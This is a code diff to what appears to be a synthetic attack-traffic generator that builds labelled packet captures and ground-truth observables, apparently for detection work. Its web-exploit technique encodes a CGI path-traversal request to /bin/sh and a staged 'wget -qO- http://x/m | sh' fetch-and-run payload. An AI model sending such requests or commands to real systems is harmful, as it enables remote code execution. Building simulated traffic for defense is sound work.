@@ -10,7 +10,14 @@ from __future__ import annotations
 from pydantic import Field
 
 from scenarios.packets import http_request, http_response, http_session
-from scenarios.techniques.base import Context, Emission, GroundTruth, Technique, TechniqueParams
+from scenarios.techniques.base import (
+    Context,
+    Emission,
+    GroundTruth,
+    Technique,
+    TechniqueParams,
+    address_sco,
+)
 
 
 class WebExploitParams(TechniqueParams):
@@ -36,7 +43,7 @@ class WebExploit(Technique):
         port = ctx.target.services.get("http", 80)
         host = ctx.target.name_or_ip
         shell = "/cgi-bin/" + ".%2e/" * params.depth + "bin/sh"
-        stage_url = f"http://{ctx.attacker.ip}{params.stage_path}"
+        stage_url = f"http://{ctx.attacker.name_or_ip}{params.stage_path}"
 
         def run_in_shell(script: str) -> bytes:
             """The exploit request: ``script`` posted to /bin/sh through the traversal."""
@@ -77,7 +84,7 @@ class WebExploit(Technique):
             [
                 (
                     http_request(
-                        "GET", params.stage_path, ctx.attacker.ip, user_agent="curl/7.88.1"
+                        "GET", params.stage_path, ctx.attacker.name_or_ip, user_agent="curl/7.88.1"
                     ),
                     http_response(
                         200, b"#!/bin/sh\nwget -qO- http://x/m | sh\n", content_type="text/x-sh"
@@ -88,7 +95,7 @@ class WebExploit(Technique):
         packets = sorted(session.packets + stage.packets, key=lambda p: p.time)
         truth = GroundTruth(
             observables=(
-                {"type": "ipv4-addr", "value": ctx.attacker.ip},
+                address_sco(ctx.attacker.ip),
                 {"type": "url", "value": f"http://{host}{shell}"},
                 {"type": "url", "value": stage_url},
             ),
